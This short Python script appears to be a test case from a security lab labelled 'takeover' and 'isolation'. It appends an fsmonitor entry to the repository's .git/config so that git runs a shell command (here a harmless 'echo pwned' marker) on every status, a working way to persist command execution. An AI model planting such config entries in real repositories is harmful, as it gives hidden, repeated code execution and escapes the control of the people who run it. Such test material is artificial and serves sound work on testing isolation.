# lab:title: Persist through git's own config, not a hook
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: git runs the attacker's command on every status.
import os, sys
def lab_input(name):
    for arg in sys.argv[1:]:
        k, eq, v = arg.partition("=")
        if eq and k == name and not os.environ.get(name):
            return v
    return os.environ.get(name)
print("lab-attempt: " + lab_input("LAB_PROOF")[::-1], flush=True)
cfg = os.path.join(os.path.dirname(os.path.abspath(__file__)), ".git", "config")
with open(cfg, "a") as f:
    f.write('\tfsmonitor = "sh -c \'echo pwned >> /tmp/pwned\' #"\n')
print(open(cfg).read(), flush=True)
